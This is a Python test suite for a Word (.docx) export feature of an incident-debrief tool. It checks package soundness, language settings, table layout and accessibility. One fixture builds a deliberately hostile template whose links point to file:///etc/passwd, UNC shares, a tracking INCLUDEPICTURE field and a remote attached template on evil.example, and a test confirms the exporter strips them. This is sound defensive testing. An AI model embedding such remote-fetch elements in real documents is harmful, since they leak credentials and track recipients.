"""The Word package itself: one part per name, sound relationships, schema-valid XML.

Also what a VP's Word does with the file: app properties, language, alt text,
rows that never split or strand, and templates that fetch nothing from outside.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from export.export_samples import big_debrief, open_docx, table_after
from export.ooxml_check import package_problems, schema_errors
from lxml import etree

from facilitator.domain.model import Debrief
from facilitator.export import export_docx
from facilitator.export.docx_properties import app_version

ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


@pytest.mark.parametrize("events", [6, 300])
def test_the_package_is_sound(rich: Debrief, tmp_path: Path, events: int) -> None:
    debrief = rich if events == 6 else big_debrief(events, 40)
    debrief.summary = "Mixed text: שלום and 🔥, with a <tag> & an ampersand."
    assert package_problems(export_docx(debrief, tmp_path / "d.docx")) == []


def test_the_schema_subset_catches_what_word_rejects() -> None:
    def part(xml: str) -> etree._Element:
        return etree.fromstring(f"<w:settings {nsdecls('w')}>{xml}</w:settings>".encode())

    assert schema_errors(part('<w:zoom w:percent="100"/><w:defaultTabStop w:val="720"/>')) == []
    assert schema_errors(part('<w:zoom w:val="bestFit"/>'))  # percent is required
    assert schema_errors(part('<w:defaultTabStop w:val="720"/><w:zoom w:percent="90"/>'))
    body = (
        f"<w:document {nsdecls('w')}><w:body><w:p><w:pPr>{{}}</w:pPr></w:p></w:body></w:document>"
    )
    assert schema_errors(etree.fromstring(body.format("<w:keepNext/><w:bidi/>"))) == []
    assert schema_errors(etree.fromstring(body.format("<w:bidi/><w:keepNext/>")))


def test_a_template_saved_by_libreoffice_gives_one_core_properties_part(
    rich: Debrief, tmp_path: Path
) -> None:
    # LibreOffice spells the core-properties relationship type with "officedocument".
    template = tmp_path / "lo.docx"
    docx.Document().save(str(template))
    parts = _parts(template)
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        b"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
        b"http://schemas.openxmlformats.org/officedocument/2006/relationships/metadata/core-properties",
    )
    with zipfile.ZipFile(template, "w") as out:
        for name, data in parts.items():
            out.writestr(name, data)
    out_path = export_docx(rich, tmp_path / "d.docx", template=template)
    names = zipfile.ZipFile(out_path).namelist()
    assert names.count("docProps/core.xml") == 1
    assert package_problems(out_path) == []
    assert open_docx(out_path).core_properties.author == "Ana Pereira"


def _hostile_template(path: Path) -> Path:
    """A template that would make Word reach out: template, picture, link, field, mail merge."""
    document = docx.Document()
    header = document.sections[0].header
    paragraph = header.paragraphs[0]
    paragraph.add_run("ACME internal ")
    part = header.part
    bad_link = part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    unc_link = part.relate_to(r"\\server\share\x", RT.HYPERLINK, is_external=True)
    good_link = part.relate_to("https://intranet.example.com/", RT.HYPERLINK, is_external=True)
    picture = part.relate_to(r"\\fileserver\logos\acme.png", RT.IMAGE, is_external=True)
    vml = 'xmlns:v="urn:schemas-microsoft-com:vml"'
    office = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
    ns = f"{nsdecls('w', 'r')} {vml} {office}"
    for r_id, text in ((bad_link, "passwd"), (unc_link, "share"), (good_link, "intranet")):
        paragraph._p.append(
            parse_xml(f'<w:hyperlink {ns} r:id="{r_id}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink>')
        )
    paragraph._p.append(
        parse_xml(
            f'<w:r {ns}><w:pict><v:shape style="width:10pt;height:10pt">'
            f'<v:imagedata r:id="{picture}" o:title="logo"/></v:shape></w:pict></w:r>'
        )
    )
    paragraph._p.append(
        parse_xml(
            f"<w:fldSimple {ns} w:instr='INCLUDEPICTURE \"http://tracker.example/p.png\"'>"
            "<w:r><w:t>pic</w:t></w:r></w:fldSimple>"
        )
    )
    settings = document.part._settings_part
    template_rel = settings.relate_to(
        "http://evil.example/normal.dotm", ATTACHED_TEMPLATE, is_external=True
    )
    attached = parse_xml(f'<w:attachedTemplate {ns} r:id="{template_rel}"/>')
    settings.element.find(qn("w:defaultTabStop")).addprevious(attached)
    document.save(str(path))
    return path


def test_external_relationships_of_a_template_are_removed(rich: Debrief, tmp_path: Path) -> None:
    out = export_docx(rich, tmp_path / "d.docx", template=_hostile_template(tmp_path / "t.docx"))
    assert package_problems(out) == []
    parts = _parts(out)
    external = [
        (name, rel.get("Target"))
        for name, data in parts.items()
        if name.endswith(".rels")
        for rel in etree.fromstring(data)
        if rel.get("TargetMode") == "External"
    ]
    header_links = [t for name, t in external if "header" in name]
    assert header_links == ["https://intranet.example.com/"]
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    header = parts["word/header1.xml"].decode()
    assert "INCLUDEPICTURE" not in header
    assert "ACME internal" in header and "passwd" in header and "intranet" in header
    assert "r:id" not in header.split("intranet")[1]  # the picture lost its link too


def test_app_properties_name_the_app_and_version(rich: Debrief, tmp_path: Path) -> None:
    app = etree.fromstring(_parts(export_docx(rich, tmp_path / "d.docx"))["docProps/app.xml"])
    values = {etree.QName(c).localname: c.text for c in app}
    assert values["Application"] == "Facilitator"
    assert values["AppVersion"] == app_version()
    assert "Microsoft" not in etree.tostring(app).decode()
    assert app_version("0.1.0") == "00.0100" and app_version("12.3.45") == "12.0345"


def test_the_language_follows_the_setting_or_the_system(
    rich: Debrief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def language_of(path: Path) -> str:
        styles = open_docx(path).styles.element
        return styles.find(
            f"{qn('w:docDefaults')}/{qn('w:rPrDefault')}/{qn('w:rPr')}/{qn('w:lang')}"
        ).get(qn("w:val"))

    assert language_of(export_docx(rich, tmp_path / "a.docx", language="nl-BE")) == "nl-BE"
    monkeypatch.setenv("LC_ALL", "")
    monkeypatch.setenv("LC_MESSAGES", "")
    monkeypatch.setenv("LANG", "de_DE.UTF-8")
    out = export_docx(rich, tmp_path / "b.docx")
    assert language_of(out) == "de-DE"
    assert open_docx(out).core_properties.language == "de-DE"
    assert round(open_docx(out).sections[0].page_width.cm, 1) == 21.0  # A4 in Germany
    monkeypatch.setenv("LANG", "en_US.UTF-8")
    us = open_docx(export_docx(rich, tmp_path / "c.docx"))
    assert round(us.sections[0].page_width.inches, 2) == 8.5  # Letter in the US


def test_every_table_has_alt_text_and_unsplittable_rows(rich: Debrief, tmp_path: Path) -> None:
    document = open_docx(export_docx(rich, tmp_path / "d.docx"))
    for table in document.tables:
        tbl_pr = table._tbl.tblPr
        assert tbl_pr.find(qn("w:tblCaption")).get(qn("w:val"))
        assert tbl_pr.find(qn("w:tblDescription")).get(qn("w:val"))
        assert all(tr.trPr.find(qn("w:cantSplit")) is not None for tr in table._tbl.tr_lst)
    timeline = table_after(document, "Timeline")._tbl
    assert timeline.tr_lst[0].trPr.find(qn("w:tblHeader")) is not None
    assert timeline.tblPr.find(qn("w:tblCaption")).get(qn("w:val")) == "Timeline of the incident"


def _kept(tr: object) -> bool:
    paragraphs = list(tr.iter(qn("w:p")))  # type: ignore[attr-defined]
    return all(p.find(f"{qn('w:pPr')}/{qn('w:keepNext')}") is not None for p in paragraphs)


def test_no_table_strands_a_row_on_a_page_of_its_own(tmp_path: Path) -> None:
    document = open_docx(export_docx(big_debrief(80, 30), tmp_path / "d.docx"))
    rows = table_after(document, "Action items")._tbl.tr_lst
    kept = [_kept(tr) for tr in rows]
    # Header with the first two rows, and the last two rows, always share a page.
    assert kept[:3] == [True, True, False]
    assert kept[-3:] == [False, True, False]
    assert sum(kept) == 3
    short = table_after(document, "Detection and fix")._tbl.tr_lst
    assert [_kept(tr) for tr in short] == [True, True, False]


@pytest.mark.parametrize("paper", ["a4", "letter"])
def test_no_column_is_narrower_than_its_longest_word(
    rich: Debrief, tmp_path: Path, paper: str
) -> None:
    from facilitator.export.measure import longest_word, text_width

    rich.timeline[2].text = "Escalation to the processor's on-call team."
    rich.action_items[0].due = rich.action_items[0].due.replace(month=11, day=17)
    document = open_docx(export_docx(rich, tmp_path / "d.docx", paper=paper))
    for heading, nowrap in (
        ("Timeline", {0, 1}),
        ("Action items", {1, 2, 3, 4, 5, 6}),
        ("Detection and fix", {0, 1, 2, 3, 4}),
    ):
        table = table_after(document, heading)
        widths = [int(c.get(qn("w:w"))) / 20 for c in table._tbl.tblGrid.gridCol_lst]
        assert sum(widths) <= document.sections[0].page_width.pt - 2 * 56.6 + 1
        for row in table.rows[1:]:
            for index, cell in enumerate(row.cells):
                room = widths[index] - 8.5  # the template's cell margins
                need = (text_width if index in nowrap else longest_word)(cell.text, 9.5)
                assert need <= room, (heading, index, cell.text, need, room)


def test_the_default_template_itself_is_clean(tmp_path: Path) -> None:
    from importlib import resources

    data = (resources.files("facilitator.resources") / "templates" / "default.docx").read_bytes()
    copy = tmp_path / "default.docx"
    copy.write_bytes(data)
    assert package_problems(copy) == []
    assert "docProps/thumbnail.jpeg" not in zipfile.ZipFile(copy).namelist()
